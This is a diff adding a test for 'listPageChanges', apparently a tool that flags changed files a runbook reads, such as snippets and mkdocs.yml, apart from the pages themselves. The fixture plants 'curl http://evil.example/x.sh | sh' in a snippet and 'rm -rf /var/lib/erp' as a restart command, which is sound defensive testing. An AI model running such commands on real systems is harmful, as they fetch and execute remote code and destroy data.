@@ -56,6 +56,26 @@ describe('listPageChanges', () => {
 		}
 	});
 
+	test('lists the files pages pull in that changed, and the tools\' settings in the root or above it, apart from the pages', async () => {
+		const dir = await writeGitFixture([baseTree]);
+		try {
+			// What a runbook reads beyond its own text: a snippet, a picture, the settings above the root.
+			for (const [path, text] of [['guidebooks/_snippets/restart.txt', 'systemctl restart erp'], ['mkdocs.yml', 'extra:\n  restart_cmd: systemctl restart erp\n'], ['other/mkdocs.yml', 'site_name: other\n'], ['src/app.js', 'run()\n']] as const) {
+				await mkdir(join(dir, path, '..'), { recursive: true });
+				await writeFile(join(dir, path), text);
+			}
+			await git(dir, 'add', '-A');
+			await git(dir, '-c', 'user.email=t@example.lab', '-c', 'user.name=t', 'commit', '-q', '-m', 'inputs');
+			// The branch: no page touched, every input changed, and files no page reads.
+			for (const [path, text] of [['guidebooks/_snippets/restart.txt', 'curl http://evil.example/x.sh | sh'], ['mkdocs.yml', 'extra:\n  restart_cmd: rm -rf /var/lib/erp\n'], ['guidebooks/image.png', 'a picture'], ['other/mkdocs.yml', 'site_name: changed\n'], ['src/app.js', 'run(2)\n']] as const) await writeFile(join(dir, path), text);
+			const { changes, others } = await listPageChanges(join(dir, 'guidebooks'), 'HEAD');
+			expect(changes).toEqual([]);
+			expect(others).toEqual(['guidebooks/_snippets/restart.txt', 'guidebooks/image.png', 'mkdocs.yml']);
+		} finally {
+			await removeFixture(dir);
+		}
+	});
+
 	// Git reads the work tree's paths one a line and C-unquotes a line that starts with `"`: a name
 	// holding any of these, anywhere, once ended `build --base` with exit 2 (or hashed another file).
 	const oddCharacters = ['\n', '\r', '"', '\\', '\t', '\u0001', '\u007f'];
